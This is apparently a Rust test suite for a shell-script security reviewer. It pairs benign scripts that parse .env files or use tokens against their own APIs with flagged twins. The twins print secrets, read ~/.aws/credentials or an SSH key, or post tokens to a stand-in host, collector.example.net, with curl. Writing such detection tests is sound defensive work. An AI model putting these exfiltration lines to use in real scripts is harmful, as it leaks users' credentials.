//! Rows of session 50's shell precision rules, each with its twin that stays flagged.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use terraphim_script_review::{
    CommandJudge, CommandTier, CommandVerdict, Context, Language, Verdict,
};

use Verdict::{Clean, Dangerous, Suspicious};

/// A stand-in for the command guard: a line naming a `.env` file anywhere (as the guard's
/// `* */.env*` does) is confined beyond the project, `frobnicate --wipe-all` is denied, a line
/// running `mount` is confined; everything else is allowed.
#[derive(Debug)]
struct DotenvWords;

impl CommandJudge for DotenvWords {
    fn judge(&self, command: &str, _: &Context) -> CommandVerdict {
        let verdict = |tier, rule: &str| CommandVerdict {
            tier,
            reason: rule.into(),
            rule: rule.into(),
            pattern: None,
            operands: Vec::new(),
        };
        if command.contains("frobnicate --wipe-all") {
            return verdict(CommandTier::Deny, "frob wipe");
        }
        if command.contains("mount ") {
            return verdict(CommandTier::Outside, "mount filesystem");
        }
        if command.contains("/.env") {
            return verdict(CommandTier::Outside, "dotenv read");
        }
        CommandVerdict::allow()
    }

    fn identity(&self) -> String {
        "fpsh50-stand-in".into()
    }
}

#[track_caller]
fn check_rows(rows: &[(&str, bool, Verdict, &str)]) {
    crate::judged_shell_rows(rows, &DotenvWords);
}

/// The project's `.env` split at `=` by `IFS='=' read -r key value`: the first variable is a
/// setting's name, no secret; the value stays the file's secret. A shell script that parses
/// the project's `.env` (not `source`) is held as Python's dotenv load is: no finding while
/// nothing shows its values leaving.
#[test]
fn setting_names_of_a_parsed_dotenv_are_no_secret() {
    let clean = [
        "#!/usr/bin/env bash\nset -euo pipefail\nwhile IFS='=' read -r key value; do\n  [[ -z \"$key\" || \"$key\" == \\#* ]] && continue\n  case \"$key\" in\n    APP_PORT|APP_API_TOKEN) export \"$key=$value\" ;;\n    *) echo \"ignoring unknown key $key in .env\" ;;\n  esac\ndone < .env\necho \"settings loaded\"\n",
        "#!/usr/bin/env bash\nset -euo pipefail\nIFS== \nwhile read -r name rest; do\n  printf 'defined: %s\\n' \"${name,,}\"\ndone < ./.env\n",
    ];
    for code in clean {
        crate::verdict(Language::Shell, code, Clean);
    }
    // Twins: the value printed, the whole line printed, another file's names printed, the
    // names of a file the script sources.
    let dangerous = [
        "#!/usr/bin/env bash\nwhile IFS='=' read -r key value; do\n  echo \"loaded $key=$value\"\ndone < .env\n",
        "#!/usr/bin/env bash\nwhile IFS= read -r key value; do\n  echo \"loaded $key\"\ndone < .env\n",
        "#!/usr/bin/env bash\nwhile read -r key value; do\n  echo \"loaded $key\"\ndone < .env\n",
        "#!/usr/bin/env bash\nwhile IFS='=' read -r key value; do\n  echo \"profile line $key\"\ndone < ~/.aws/credentials\n",
    ];
    for code in dangerous {
        let report = crate::verdict(Language::Shell, code, Dangerous);
        crate::has_rule(&report, "secret-to-output");
    }
    // The parsed value sent to a host nobody knows: the read is no longer held.
    let report = crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nwhile IFS='=' read -r key value; do\n  [[ \"$key\" == APP_API_TOKEN ]] && tok=\"$value\"\ndone < .env\ncurl -fsS -d \"t=$tok\" https://collector.example.net/in\n",
        Dangerous,
    );
    crate::has_rule(&report, "secret-read");
    // Sourced, the file runs as code in the script's shell: the read stays.
    let report = crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nset -a\n. ./.env\nset +a\necho \"settings loaded\"\n",
        Suspicious,
    );
    crate::has_rule(&report, "secret-read");
    // A line the guard confines elsewhere in the script keeps the parse's read flagged.
    check_rows(&[
        (
            "#!/usr/bin/env bash\nwhile IFS='=' read -r key value; do\n  export \"$key=$value\"\ndone < .env\nmount --bind build/a build/b\n",
            true,
            Suspicious,
            "secret-read",
        ),
        (
            "#!/usr/bin/env bash\nwhile IFS='=' read -r key value; do\n  export \"$key=$value\"\ndone < .env\necho done\n",
            true,
            Clean,
            "",
        ),
    ]);
}

/// `printf -v "$key" '%s' "$val"` assigns a variable named at run time: nothing is printed.
#[test]
fn printf_into_a_variable_named_at_run_time_prints_nothing() {
    crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nset -euo pipefail\nwhile IFS='=' read -r k v; do\n  [[ \"$k\" =~ ^APP_[A-Z_]+$ ]] || continue\n  printf -v \"$k\" '%s' \"$v\"\n  export \"${k?}\"\ndone < .env\necho \"loaded\"\n",
        Clean,
    );
    // Twins: the same value printed with printf, or into a variable then echoed.
    for code in [
        "#!/usr/bin/env bash\nwhile IFS='=' read -r k v; do\n  printf '%s\\n' \"$v\"\ndone < .env\n",
        "#!/usr/bin/env bash\nwhile IFS='=' read -r k v; do\n  printf -v shown '%s' \"$v\"\n  echo \"$shown\"\ndone < .env\n",
    ] {
        let report = crate::verdict(Language::Shell, code, Dangerous);
        crate::has_rule(&report, "secret-to-output");
    }
}

/// `stat`, `du` and digests of files of the project print what a file is, never its text;
/// `basename`/`dirname` open no file (a `.env` suffix is a word).
#[test]
fn metadata_of_project_files_and_names_cut_read_no_secret() {
    let clean = [
        "#!/usr/bin/env bash\nset -euo pipefail\nmode=\"$(stat -c '%a' .env)\"\nif [[ \"$mode\" != 600 ]]; then\n  echo \"warning: .env has mode $mode; run chmod 600 .env\"\nfi\n",
        "#!/usr/bin/env bash\nfor f in ./.env ./.env.local; do\n  [[ -f \"$f\" ]] || continue\n  printf '%s %s\\n' \"$(stat -c '%a' -- \"$f\")\" \"$f\"\ndone\n",
        "#!/usr/bin/env bash\nfor f in config/*.env; do\n  svc=\"$(basename \"$f\" .env)\"\n  echo \"service $svc\"\ndone\n",
        "#!/usr/bin/env bash\ndu -sh ./.envs 2>/dev/null || true\n",
    ];
    for code in clean {
        crate::verdict(Language::Shell, code, Clean);
    }
    // Twins: a credential file of the home probed (read, as any program's operand is), the
    // file's text printed.
    let report = crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nstat -c '%a %s' ~/.ssh/id_ed25519\n",
        Dangerous,
    );
    crate::has_rule(&report, "secret-read");
    for code in [
        "#!/usr/bin/env bash\nfor f in ./.env; do\n  printf '%s\\n' \"$(cat \"$f\")\"\ndone\n",
        "#!/usr/bin/env bash\nfor f in .env .env.local; do\n  echo \"$(basename \"$f\"): $(head -n 1 \"$f\")\"\ndone\n",
    ] {
        let report = crate::verdict(Language::Shell, code, Dangerous);
        crate::has_rule(&report, "secret-to-output");
    }
}

/// A function whose every call takes its output as a value prints nothing: what it prints is
/// judged where each caller uses it.
#[test]
fn a_function_only_called_for_its_value_prints_nothing() {
    crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\nset -euo pipefail\ngh_token() {\n  printf '%s' \"${GITHUB_TOKEN:?set GITHUB_TOKEN}\"\n}\ncurl -fsS -H \"Authorization: Bearer $(gh_token)\" https://api.github.com/user >/dev/null\necho ok\n",
        Clean,
    );
    // Twins: a call that prints, the value echoed by its caller, the value sent elsewhere, a
    // call the walk cannot see (the name held in a variable).
    for code in [
        "#!/usr/bin/env bash\ngh_token() {\n  printf '%s' \"${GITHUB_TOKEN:?}\"\n}\ncurl -fsS -H \"Authorization: Bearer $(gh_token)\" https://api.github.com/user >/dev/null\ngh_token\n",
        "#!/usr/bin/env bash\ngh_token() {\n  printf '%s' \"${GITHUB_TOKEN:?}\"\n}\necho \"token: $(gh_token)\"\n",
        "#!/usr/bin/env bash\ngh_token() {\n  printf '%s' \"${GITHUB_TOKEN:?}\"\n}\nt=$(gh_token)\nhow=gh_token\n\"$how\"\n",
    ] {
        let report = crate::verdict(Language::Shell, code, Dangerous);
        crate::has_rule(&report, "secret-to-output");
    }
    let report = crate::verdict(
        Language::Shell,
        "#!/usr/bin/env bash\ngh_token() {\n  printf '%s' \"${GITHUB_TOKEN:?}\"\n}\ncurl -fsS -d \"t=$(gh_token)\" https://collector.example.net/in\n",
        Dangerous,
    );
    crate::has_rule(&report, "secret-to-network");
}

/// Hetzner Cloud's, Linode's and the Buf registry's tokens sent to their own documented APIs
/// (or handed to their own CLI) are used, not leaked; the same tokens elsewhere are not.
#[test]
fn cloud_and_schema_registry_tokens_to_their_own_apis() {
    for code in [
        "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsS -H \"Authorization: Bearer ${HCLOUD_TOKEN:?}\" https://api.hetzner.cloud/v1/servers -o build/servers.json\n",
        "#!/usr/bin/env bash\nset -euo pipefail\ncurl -fsS -H \"Authorization: Bearer ${LINODE_CLI_TOKEN:?}\" https://api.linode.com/v4/linode/instances -o build/linodes.json\n",
        "#!/usr/bin/env bash\nset -euo pipefail\n[[ -n \"${BUF_TOKEN:-}\" ]] || { echo 'BUF_TOKEN is not set' >&2; exit 1; }\nbuf push proto\n",
    ] {
        crate::verdict(Language::Shell, code, Clean);
    }
    for code in [
        "#!/usr/bin/env bash\ncurl -fsS -H \"Authorization: Bearer ${HCLOUD_TOKEN:?}\" https://collector.example.net/v1/servers\n",
        "#!/usr/bin/env bash\ncurl -fsS -d \"token=${BUF_TOKEN:?}\" https://collector.example.net/in\n",
    ] {
        let report = crate::verdict(Language::Shell, code, Dangerous);
        crate::has_rule(&report, "secret-to-network");
    }
}

/// The call of the script's own function walked with its values: its body's statements are
/// judged one by one, so the call line is not judged again as an unknown program reading the
/// `.env` it names.
#[test]
fn a_call_of_the_scripts_own_function_is_judged_by_its_body() {
    check_rows(&[
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nenv_get() {\n  local key=\"$1\" file=\"$2\" line\n  while IFS= read -r line; do\n    [[ \"$line\" == \"$key=\"* ]] && { printf '%s' \"${line#*=}\"; return 0; }\n  done < \"$file\"\n  return 1\n}\ntoken=\"$(env_get GITHUB_TOKEN \"$PWD/.env\")\"\ncurl -fsS -H \"Authorization: Bearer $token\" https://api.github.com/user >/dev/null\n",
            true,
            Clean,
            "",
        ),
        // Twins: a program of the same name that is no function of the script (the whole
        // file is what it may print); a body that does what the guard denies, with the call's
        // value.
        (
            "#!/usr/bin/env bash\nset -euo pipefail\ntoken=\"$(env-get GITHUB_TOKEN \"$PWD/.env\")\"\ncurl -fsS -H \"Authorization: Bearer $token\" https://api.github.com/user >/dev/null\n",
            true,
            Dangerous,
            "exfiltration",
        ),
        (
            "#!/usr/bin/env bash\nset -euo pipefail\nwipe() {\n  local what=\"$1\"\n  frobnicate --wipe-all \"$what\"\n}\nwipe \"$PWD/build\"\n",
            true,
            Dangerous,
            "guard-rule",
        ),
    ]);
}
